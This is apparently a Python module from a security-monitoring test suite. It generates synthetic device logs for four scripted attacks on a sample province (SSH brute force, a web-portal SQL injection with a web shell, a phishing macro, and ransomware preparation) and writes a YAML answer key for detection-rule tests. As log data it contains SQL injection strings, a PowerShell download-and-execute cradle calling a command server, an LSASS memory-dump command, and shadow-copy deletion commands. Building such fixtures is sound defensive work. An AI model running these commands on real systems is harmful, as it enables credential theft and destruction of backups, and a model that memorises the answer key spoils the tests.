"""Four attacks in the sample province → their raw lines, and what a good rule set should say about each.

The lines are what the devices write; no line is marked. `stories.yml` is the answer key: tests read it.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, timedelta

from soc.app.sample.cast import (
    ANTIVIRUS,
    BOT_MASTER,
    BROWSERS,
    BRUTE_FORCER,
    CAMERAS,
    CLERK,
    COMMAND_SERVER,
    FILES,
    HOSPITAL,
    MINH_XUAN,
    MY_LAM,
    ONE_STOP,
    PORTAL,
    RECEPTION,
    SCANNER,
    TINH,
    YEN_SON,
)
from soc.app.sample.clock import at
from soc.app.sample.lines import cef, eve, fortigate, nginx, traffic
from soc.app.sample.logbook import CEF, FORTIGATE, SURICATA, Logbook
from soc.app.sample.windows import WinEvent, logon, process, sysmon


@dataclass(frozen=True, slots=True)
class Story:
    """An attack that is in the logs: unit and hosts where its alerts belong, local time from first to last line.

    `rules` are paths below rules/ without suffix, each of which must raise an alert; `techniques` are ATT&CK ids.
    """

    id: str
    title_vi: str
    title_en: str
    unit: str
    hosts: tuple[str, ...]
    first: datetime
    last: datetime
    techniques: tuple[str, ...]
    rules: tuple[str, ...]


def tell(book: Logbook, seed: str, end: date) -> tuple[Story, ...]:
    """Writes the four stories into the book: on the last three days up to `end`."""
    days = [end - timedelta(days=back) for back in (2, 1, 0)]
    return (
        _one_stop(book, random.Random(f"{seed}:one-stop"), days[0]),
        _portal(book, random.Random(f"{seed}:portal"), days[1]),
        _phishing(book, days[1]),
        _hospital(book, random.Random(f"{seed}:hospital"), days[2]),
    )


def to_yaml(stories: tuple[Story, ...]) -> str:
    """The answer key as YAML (JSON values, which YAML reads)."""
    out = ["# Bốn câu chuyện tấn công trong nhật ký của tỉnh mẫu: đáp án để kiểm tra.", "schema: 1", "stories:"]
    for story in stories:
        facts = {
            "id": story.id,
            "title_vi": story.title_vi,
            "title_en": story.title_en,
            "unit": story.unit,
            "hosts": list(story.hosts),
            "first": story.first.isoformat(),
            "last": story.last.isoformat(),
            "techniques": list(story.techniques),
            "rules": list(story.rules),
        }
        lines = [f"{name}: {json.dumps(value, ensure_ascii=False)}" for name, value in facts.items()]
        out.append("  - " + "\n    ".join(lines))
    return "\n".join(out) + "\n"


def _one_stop(book: Logbook, rng: random.Random, on: date) -> Story:
    """Passwords are guessed at the commune's one-stop server until one fits; then an account and a cron job stay."""
    host, moment = ONE_STOP, at(on, "01:12:07")
    first = moment
    names = ("root", "admin", "motcua", "administrator", "postgres", "ubuntu", "test", "hotro", "oracle", "backup")
    for attempt in range(190):
        name = "motcua" if attempt % 3 == 0 else rng.choice(names)
        known = "" if name in ("root", "motcua", "postgres", "backup") else "invalid user "
        tag, port = f"sshd[{21_000 + attempt}]", 33_000 + attempt * 7
        if attempt % 10 == 0:
            fields = traffic(
                "accept", (BRUTE_FORCER, port), (host.ip, 22), proto=6, service="SSH", duration=4, sentbyte=2_900
            )
            book.line(FORTIGATE, moment, _session(moment, fields))
        if known:
            book.auth(moment, host, tag, f"Invalid user {name} from {BRUTE_FORCER} port {port}")
        moment += timedelta(seconds=2)
        book.auth(moment, host, tag, f"Failed password for {known}{name} from {BRUTE_FORCER} port {port} ssh2")
        moment += timedelta(seconds=rng.randrange(3, 9))
    tag = "sshd[21300]"
    book.auth(moment, host, tag, f"Accepted password for motcua from {BRUTE_FORCER} port 41010 ssh2")
    book.auth(moment, host, tag, "pam_unix(sshd:session): session opened for user motcua(uid=1000) by (uid=0)")
    for seconds, command in (
        (35, "/usr/sbin/useradd -m -s /bin/bash hotro"),
        (41, "/usr/sbin/usermod -aG sudo hotro"),
        (66, "/usr/bin/tee /etc/cron.d/cap-nhat-he-thong"),
        (95, "/usr/bin/truncate -s 0 /var/log/wtmp"),
    ):
        then = moment + timedelta(seconds=seconds)
        book.auth(then, host, "sudo", f"  motcua : TTY=pts/1 ; PWD=/home/motcua ; USER=root ; COMMAND={command}")
        book.auth(then, host, "sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by motcua(uid=1000)")
    return Story(
        id="mot-cua-ssh",
        title_vi="Dò mật khẩu SSH thành công vào máy chủ một cửa xã Yên Sơn, tạo tài khoản ẩn",
        title_en="SSH password guessed on the one-stop server of Yên Sơn commune; a hidden account is created",
        unit=YEN_SON,
        hosts=(host.name,),
        first=first,
        last=moment + timedelta(seconds=95),
        techniques=("T1110.001", "T1078", "T1136.001", "T1053.003", "T1070.002"),
        rules=(
            "linux/credential_access_ssh_brute_force",
            "linux/initial_access_ssh_login_after_brute_force",
            "linux/persistence_sudo_account_created",
            "linux/persistence_sudo_cron_changed",
            "linux/stealth_sudo_log_removed",
        ),
    )


_INJECTIONS = (
    "'%20OR%20'1'%3D'1",
    "1%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "1%27%20UNION%20ALL%20SELECT%20table_name%2C2%20FROM%20information_schema.tables--%20-",
    "1%20AND%20SLEEP%285%29",
)


def _portal(book: Logbook, rng: random.Random, on: date) -> Story:
    """The public-service portal is scanned, its search is injected, and a script lands in the upload folder."""
    moment = first = at(on, "13:05:20")
    tool = "sqlmap/1.9.11#stable (https://sqlmap.org)"
    words = (
        "admin",
        "backup",
        "config",
        "old",
        "phpmyadmin",
        "test",
        "wp-login",
        "db",
        "console",
        "manager",
        "api",
        ".env",
    )

    def request(line: str, status: int, size: int, agent: str) -> None:
        book.web(moment, PORTAL, nginx(moment, SCANNER, f"{line} HTTP/1.1", status, size, "-", agent))

    for number in range(340):
        path = f"/{rng.choice(words)}-{number}{rng.choice(('', '/', '.php', '.bak', '.zip', '.old'))}"
        request(f"GET {path}", 404, 548, "Mozilla/5.00 (Nikto/2.5.0)")
        moment += timedelta(milliseconds=rng.randrange(300, 2_500))
    for number in range(60):
        request(f"GET /tra-cuu-ho-so?ma={_INJECTIONS[number % 4]}", (500, 200)[number % 3 == 0], 1_900, tool)
        if number % 12 == 0:
            _sees_injection(book, moment, number)
        moment += timedelta(seconds=rng.randrange(1, 9))
    moment += timedelta(minutes=12)
    request("POST /phan-anh-hien-truong/tai-len", 200, 312, BROWSERS[3])
    shell = "/uploads/2026/11/anh-hien-truong.jpg.php"
    for number, command in enumerate(("id", "uname%20-a", "cat%20/etc/passwd", "ls%20-la%20/var/www", "whoami")):
        moment += timedelta(seconds=20 + 7 * number)
        request(f"GET {shell}?lenh={command}", 200, 400 + number, BROWSERS[3])
    moment += timedelta(seconds=40)
    request(f"POST {shell}", 200, 77, BROWSERS[3])
    return Story(
        id="cong-dvc-webshell",
        title_vi="Cổng Dịch vụ công bị quét, chèn mã SQL và tải lên webshell",
        title_en="The public-service portal is scanned, injected with SQL and gets a web shell",
        unit=TINH,
        hosts=(PORTAL.name,),
        first=first,
        last=moment,
        techniques=("T1595.002", "T1190", "T1505.003"),
        rules=(
            "web/reconnaissance_scanner_user_agent",
            "web/reconnaissance_not_found_fan_out",
            "web/initial_access_sql_injection",
            "web/persistence_webshell_in_upload_folder",
            "suricata/initial_access_web_attack",
        ),
    )


def _sees_injection(book: Logbook, moment: datetime, number: int) -> None:
    alert = {"action": "allowed", "gid": 1, "signature_id": 9_000_201, "rev": 2, "severity": 1}
    alert |= {"signature": "SAMPLE WEB SQL UNION SELECT in URI", "category": "Web Application Attack"}
    http = {"hostname": "dichvucong.tinh.example", "url": "/tra-cuu-ho-so", "http_method": "GET", "status": 200}
    flow = 7_000_000_000_000_000 + number
    text = eve(moment, "alert", flow, (SCANNER, 40_000 + number), (PORTAL.ip, 443), "TCP", alert=alert, http=http)
    book.line(SURICATA, moment, text)


_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_SHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def _phishing(book: Logbook, on: date) -> Story:
    """A macro runs encoded PowerShell, the memory of LSASS is dumped, and a service carries the attacker on."""
    first = at(on, "08:47:10")
    last = first + timedelta(seconds=3_668)
    _macro(book, first)
    _memory_dumped(book, first + timedelta(seconds=1_980))
    _service_installed(book, last)
    return Story(
        id="giay-moi-hop",
        title_vi="Thư lừa đảo có macro tại phường Minh Xuân: trích xuất mật khẩu và lây lan ngang",
        title_en="Phishing macro in Minh Xuân ward: credentials are dumped, then lateral movement by a service",
        unit=MINH_XUAN,
        hosts=(CLERK.name, FILES.name),
        first=first,
        last=last,
        techniques=("T1566.001", "T1204.002", "T1059.001", "T1003.001", "T1569.002", "T1021.002"),
        rules=(
            "windows/execution_office_starts_shell",
            "windows/execution_powershell_encoded",
            "windows/execution_powershell_download_in_script",
            "windows/credential_access_lsass_dump_comsvcs",
            "windows/credential_access_lsass_opened",
            "windows/lateral_movement_service_runs_shell",
        ),
    )


def _macro(book: Logbook, opened: datetime) -> None:
    letter = "C:\\Users\\nt.vidu\\Downloads\\Giấy mời họp khẩn.docm"
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{COMMAND_SERVER}/tai-lieu')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    parent = "C:\\Windows\\explorer.exe"
    book.windows(opened, CLERK, process(CLERK, opened, _WORD, f'"{_WORD}" /n "{letter}"', parent, 5_212))
    then = opened + timedelta(seconds=14)
    command = f"powershell.exe -NoP -W Hidden -enc {encoded}"
    book.windows(then, CLERK, process(CLERK, then, _SHELL, command, _WORD, 6_120))
    data = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script, "ScriptBlockId": "7f0c1d52", "Path": ""}
    channel = "Microsoft-Windows-PowerShell/Operational"
    then = opened + timedelta(seconds=15)
    book.windows(then, CLERK, WinEvent("Microsoft-Windows-PowerShell", channel, 4104, data, 3))
    then = opened + timedelta(seconds=17)
    connected = sysmon(
        3, then, ProcessId=6_120, Image=_SHELL, User="TINH\\nt.vidu", Protocol="tcp", Initiated="true",
        SourceIp=CLERK.ip, SourcePort=50_212, DestinationIp=COMMAND_SERVER, DestinationPort=80,
        DestinationHostname="-",
    )  # fmt: skip
    book.windows(then, CLERK, connected)


def _memory_dumped(book: Logbook, moment: datetime) -> None:
    dump = "C:\\Windows\\Temp\\bao-cao.dmp"
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 664 {dump} full"
    started = process(CLERK, moment, "rundll32.exe", command, _SHELL, 6_604, "NT AUTHORITY\\SYSTEM")
    book.windows(moment, CLERK, started)
    then = moment + timedelta(seconds=1)
    opened = sysmon(
        10, then, SourceProcessId=6_604, SourceThreadId=812, SourceImage="C:\\Windows\\System32\\rundll32.exe",
        TargetProcessId=664, TargetImage="C:\\Windows\\System32\\lsass.exe", GrantedAccess="0x1FFFFF",
        CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1b8ee",
        SourceUser="NT AUTHORITY\\SYSTEM", TargetUser="NT AUTHORITY\\SYSTEM",
    )  # fmt: skip
    book.windows(then, CLERK, opened)


def _service_installed(book: Logbook, last: datetime) -> None:
    """The attacker logs on to the file server and runs a command as a service; `last` is when the command starts."""
    book.windows(last - timedelta(seconds=8), FILES, logon(FILES, "quantri.mx", 3, CLERK.ip, package="NTLM"))
    path = "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__ket-qua 2^>^&1 > %TEMP%\\cap-nhat.bat"
    service = {
        "ServiceName": "CapNhatHeThong",
        "ImagePath": path,
        "ServiceType": "user mode service",
        "StartType": "demand start",
        "AccountName": "LocalSystem",
    }
    installed = WinEvent("Service Control Manager", "System", 7045, service)
    book.windows(last - timedelta(seconds=4), FILES, installed)
    book.windows(last, FILES, process(FILES, last, "cmd.exe", f'cmd.exe /Q /c "{path}"', "services.exe", 3_320))


def _hospital(book: Logbook, rng: random.Random, on: date) -> Story:
    """The recorder belongs to a botnet, its neighbours are scanned, the hospital server is made ready to encrypt."""
    first = at(on, "00:40:00")
    last = _recorder(book, rng, first)
    fields = {
        "cat": "Malware", "dhost": RECEPTION.name, "dst": RECEPTION.ip, "duser": RECEPTION.user,
        "fname": "bang-luong-thang-11.exe", "filePath": f"C:\\Users\\{RECEPTION.user}\\Downloads",
        "act": "quarantine failed", "cs1Label": "ThreatName",
        "cs1": "Ransom.Sample.B",
    }  # fmt: skip
    moment = at(on, "02:41:30")
    book.line(CEF, moment, cef(moment, ANTIVIRUS.name, "MALWARE_FOUND", "Phát hiện mã độc", 9, **fields))
    _before_encryption(book, at(on, "02:50:12"))
    last = max(at(on, "02:50:12") + timedelta(seconds=400), last)
    return Story(
        id="trung-tam-y-te",
        title_vi="Đầu ghi camera trong mạng botnet và dấu hiệu chuẩn bị mã hoá tống tiền tại Trung tâm Y tế Mỹ Lâm",
        title_en="A camera recorder in a botnet, and the steps before ransomware in the health centre of Mỹ Lâm",
        unit=MY_LAM,
        hosts=(CAMERAS.name, HOSPITAL.name, RECEPTION.name),
        first=first,
        last=last,
        techniques=("T1071", "T1046", "T1204.002", "T1490", "T1685", "T1685.005"),
        rules=(
            "fortigate/command_and_control_telnet_to_internet",
            "fortigate/discovery_port_scan",
            "antivirus/execution_malware_not_removed",
            "windows/defense_impairment_defender_protection_off",
            "windows/impact_shadow_copies_deleted",
            "windows/defense_impairment_event_log_cleared",
            "windows/impact_ransomware_preparation",
        ),
    )


def _recorder(book: Logbook, rng: random.Random, first: datetime) -> datetime:
    """The recorder's own lines; when the last of its calls is."""
    moment = first
    for _ in range(170):  # every 50 to 60 seconds: the recorder calls its master by telnet, the firewall denies
        moment += timedelta(seconds=rng.randrange(50, 61))
        fields = traffic(
            "deny", (CAMERAS.ip, rng.randrange(40_000, 60_000)), (BOT_MASTER, 23), proto=6, service="TELNET"
        )
        book.line(FORTIGATE, moment, _session(moment, fields))
    last = moment
    moment = first + timedelta(minutes=98)
    for port in (
        21,
        22,
        23,
        80,
        81,
        135,
        139,
        389,
        443,
        445,
        554,
        1433,
        1521,
        3306,
        3389,
        5432,
        5900,
        5985,
        8000,
        8080,
        8443,
    ):
        moment += timedelta(seconds=rng.randrange(1, 4))
        source = (CAMERAS.ip, rng.randrange(40_000, 60_000))
        fields = traffic("deny", source, (HOSPITAL.ip, port), proto=6, service=f"tcp/{port}")
        fields |= {"dstintf": "dmz", "dstintfrole": "dmz"}
        book.line(FORTIGATE, moment, _session(moment, fields))
    return last


def _before_encryption(book: Logbook, moment: datetime) -> None:
    host = HOSPITAL
    book.windows(moment, host, logon(host, "quantri.his", 10, RECEPTION.ip, package="NTLM"))
    product = {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.25090.3009"}
    channel = "Microsoft-Windows-Windows Defender/Operational"
    later = moment + timedelta(seconds=45)
    book.windows(later, host, WinEvent("Microsoft-Windows-Windows Defender", channel, 5001, product))
    for seconds, image, command in (
        (90, "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        (97, "wbem\\WMIC.exe", "wmic shadowcopy delete"),
        (110, "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        (118, "wbadmin.exe", "wbadmin delete catalog -quiet"),
    ):
        later = moment + timedelta(seconds=seconds)
        image = f"C:\\Windows\\System32\\{image}"
        book.windows(
            later, host, process(host, later, image, command, "cmd.exe", 7_000 + seconds * 4, "TINH\\quantri.his")
        )
    cleared = {
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1131",
        "SubjectUserName": "quantri.his",
        "SubjectDomainName": "TINH",
        "SubjectLogonId": "0x5a71f",
    }
    later = moment + timedelta(seconds=400)
    book.windows(later, host, WinEvent("Microsoft-Windows-Eventlog", "Security", 1102, cleared))


def _session(moment: datetime, fields: dict[str, object]) -> Callable[[int], str]:
    return lambda ordinal: fortigate(moment, 400_000 + ordinal, fields)
